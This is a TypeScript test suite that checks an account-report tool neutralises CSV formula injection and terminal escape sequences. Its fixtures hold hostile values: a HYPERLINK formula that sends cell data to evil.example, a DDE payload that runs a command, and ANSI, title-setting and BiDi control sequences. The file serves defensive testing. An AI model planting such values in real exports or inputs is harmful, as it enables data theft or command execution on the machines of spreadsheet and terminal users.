/**
 * A hostile account: users whose names and emails are spreadsheet formulas or terminal escape
 * sequences, and a stack whose resource names are too. The built command runs against the
 * emulator; the CSV is read back with a CSV reader, as a spreadsheet would read it.
 */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import { startEmulator, type RunningEmulator, type SeedUser } from "../../emulator";
import { CSV_COLUMNS } from "../../report/formats";
import { runReport, tableCell } from "./account";

const ACCESS = "pulumi-nodejs:dynamic/vultr:UserApiAccess";

/** Each starts with a character a spreadsheet reads as the start of a formula. */
const FORMULAS = {
  hyperlink: { id: "f0000000-0000-4000-8000-000000000001", email: "link@example.com", name: '=HYPERLINK("https://evil.example/?d="&A1,"open")' },
  dde: { id: "f0000000-0000-4000-8000-000000000002", email: "dde@example.com", name: "+cmd|' /C calc'!A0" },
  minus: { id: "f0000000-0000-4000-8000-000000000003", email: "-2+3@example.com", name: "-1+1" },
  at: { id: "f0000000-0000-4000-8000-000000000004", email: "@SUM(1+1)@example.com", name: "@SUM(A1:A9)" },
  tab: { id: "f0000000-0000-4000-8000-000000000005", email: "tab@example.com", name: "\t=1+1" },
  cr: { id: "f0000000-0000-4000-8000-000000000006", email: "cr@example.com", name: "\r=1+1" },
  spaced: { id: "f0000000-0000-4000-8000-000000000007", email: "spaced@example.com", name: "  =1+1" },
  quoted: { id: "f0000000-0000-4000-8000-000000000008", email: "quote@example.com", name: "'Quoted" },
} satisfies Record<string, SeedUser>; // prettier-ignore

/** Terminal control sequences: clear the screen, set the window title, a line break, BiDi. */
const ESCAPES = {
  ansi: { id: "e0000000-0000-4000-8000-000000000001", email: "red\x1b[31m\x1b[2J@example.com", name: "Red\x1b[0m" },
  newline: { id: "e0000000-0000-4000-8000-000000000002", email: "two\nlines@example.com", name: "Two\nLines" },
  bidi: { id: "e0000000-0000-4000-8000-000000000003", email: "moc.elpmaxe@\u202eevil", name: "BiDi" },
} satisfies Record<string, SeedUser>; // prettier-ignore

const PLAIN = { id: "a0000000-0000-4000-8000-000000000001", email: "plain@example.com", name: "Plain User" } satisfies SeedUser; // prettier-ignore

const STACK_EXPORT = {
  version: 3,
  deployment: {
    manifest: {},
    resources: [
      {
        urn: `urn:pulumi:prod::team::${ACCESS}::title\x1b]0;pwned\x07`,
        type: ACCESS,
        id: ESCAPES.ansi.id,
        inputs: { userId: ESCAPES.ansi.id, apiEnabled: true },
        outputs: { userId: ESCAPES.ansi.id },
      },
    ],
  },
};

let emulator: RunningEmulator;
let dir: string;

beforeAll(async () => {
  emulator = await startEmulator({ rateLimitPerSecond: 0 });
  emulator.seedUsers([...Object.values(FORMULAS), ...Object.values(ESCAPES), PLAIN]);
  dir = await mkdtemp(path.join(tmpdir(), "vultr-report-hostile-"));
});

afterAll(async () => {
  await emulator?.close();
  await rm(dir, { recursive: true, force: true });
});

/** The cell starts a formula in Excel, LibreOffice or Google Sheets. */
const FORMULA_START = /^\s*[=+\-@]|^[\t\r]/;

describe("CSV", () => {
  it("neutralises every cell that a spreadsheet would run as a formula, and no other", async () => {
    const out = path.join(dir, "report.csv");
    const result = await runReport(emulator, ["report", "--allowlists", "--keys", "--out", out]);
    expect(result.code).toBe(0);
    const rows = parse<Record<string, string>>(await readFile(out, "utf8"), { columns: true });
    expect(Object.keys(rows[0] ?? {})).toStrictEqual([...CSV_COLUMNS]);
    const row = (id: string) => rows.find((candidate) => candidate.id === id);

    for (const user of Object.values(FORMULAS)) {
      expect([user.id, row(user.id)?.name]).toStrictEqual([user.id, `'${user.name}`]);
    }
    expect(row(FORMULAS.minus.id)?.email).toBe(`'${FORMULAS.minus.email}`);
    expect(row(FORMULAS.at.id)?.email).toBe(`'${FORMULAS.at.email}`);
    // Everything else is written as it is.
    expect(row(PLAIN.id)).toMatchObject({ email: PLAIN.email, name: PLAIN.name });
    expect(row(FORMULAS.hyperlink.id)?.email).toBe(FORMULAS.hyperlink.email);
    expect(row(ESCAPES.newline.id)?.name).toBe(ESCAPES.newline.name);

    const formulas = rows.flatMap((cells) =>
      Object.entries(cells).filter(([, cell]) => FORMULA_START.test(cell)),
    );
    expect(formulas).toStrictEqual([]);
  });
});

describe("table", () => {
  it("shows control characters as escapes: nothing reaches the terminal that it would obey", async () => {
    const state = path.join(dir, "prod.json");
    await writeFile(state, JSON.stringify(STACK_EXPORT));
    const result = await runReport(emulator, ["report", "--format", "table", "--state", state]);
    expect(result.code).toBe(0);
    // Only line feeds, no other C0, C1 or BiDi control character.
    const controls = [...result.stdout].filter((char) =>
      // eslint-disable-next-line no-control-regex -- finding control characters is the point
      /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(char),
    );
    expect(controls).toStrictEqual([]);
    const lines = result.stdout.split("\n");
    expect(lines.filter((line) => line.length > 100)).toStrictEqual([]);
    const row = lines.findIndex((line) => line.startsWith("red\\x1b[31m"));
    expect(tableCell(lines, row, "USER").join("")).toBe("red\\x1b[31m\\x1b[2J@example.com");
    expect(tableCell(lines, row, "MANAGED BY").join("")).toBe("team/prod:title\\x1b]0;pwned\\x07");
    // The user with a line break in the email is still one row.
    expect(lines.filter((line) => line.startsWith("two\\nlines@example.com"))).toHaveLength(1);
    expect(result.stdout).toContain("moc.elpmaxe@\\u202eevil");
  });
});
